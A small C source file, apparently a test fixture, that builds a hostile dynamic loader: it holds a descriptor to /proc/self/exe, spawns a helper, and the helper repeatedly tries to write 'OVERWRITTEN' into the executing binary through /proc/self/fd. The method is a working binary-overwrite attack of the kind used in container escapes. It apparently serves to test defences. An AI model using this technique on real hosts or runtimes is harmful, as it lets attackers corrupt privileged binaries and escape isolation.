/* What a hostile root has as its dynamic loader, and as what that becomes: without any library.
   As a loader it is run with /proc/self/exe being the program that the kernel was made to execute:
   it keeps a descriptor of that, and once nobody executes the program any more, overwrites it. */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long one, long two, long three, long four)
{
	long result;
#if defined(__x86_64__)
	register long last asm("r10") = four;
	asm volatile("syscall" : "=a"(result) : "a"(number), "D"(one), "S"(two), "d"(three), "r"(last)
		     : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 asm("x8") = number, x0 asm("x0") = one, x1 asm("x1") = two;
	register long x2 asm("x2") = three, x3 asm("x3") = four;
	asm volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	result = x0;
#else
#error "neither x86-64 nor aarch64"
#endif
	return result;
}

void _start(void)
{
#ifdef LOADER
	char program[] = "/late", *words[] = {program, 0}, *none[] = {0};
	if (call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0) >= 0) {
		call(SYS_write, 1, (long)"the loader ran\n", 15, 0);
		if (call(SYS_clone, 17 /* SIGCHLD */, 0, 0, 0) == 0)
			call(SYS_execve, (long)program, (long)words, (long)none, 0);
	}
#else
	char path[] = "/proc/self/fd/0";
	struct { long seconds, nanoseconds; } pause = {0, 1000000};
	for (int turn = 0; turn < 3000; turn++) {
		for (int number = 3; number < 10; number++) {
			path[14] = '0' + number;
			long file = call(SYS_openat, AT_FDCWD, (long)path, O_WRONLY, 0);
			if (file >= 0) {
				call(SYS_write, file, (long)"OVERWRITTEN", 11, 0);
				call(SYS_exit_group, 0, 0, 0, 0);
			}
		}
		call(SYS_nanosleep, (long)&pause, 0, 0, 0);
	}
#endif
	call(SYS_exit_group, 0, 0, 0, 0);
}
